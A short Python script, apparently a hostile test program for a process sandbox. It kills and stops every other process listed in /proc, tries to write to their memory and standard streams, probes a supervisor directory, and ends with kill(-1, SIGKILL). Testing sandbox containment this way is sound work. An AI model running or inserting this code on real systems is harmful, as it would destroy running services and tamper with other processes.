import os
import signal

me = os.getpid()
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != me:
        pid = int(name)
        for sig in (signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(pid, sig)
                print("signalled", pid)
            except OSError as exc:
                pass
        for target in ("mem", "fd/1", "fd/0"):
            try:
                open(f"/proc/{pid}/{target}", "wb").close()
                print("opened", pid, target)
            except OSError:
                pass
for path in ("/box/.sup", "/box/.sup/stdin"):
    try:
        os.listdir(path) if path.endswith("sup") else open(path, "rb").read()
        print("read", path)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
print("attack finished")
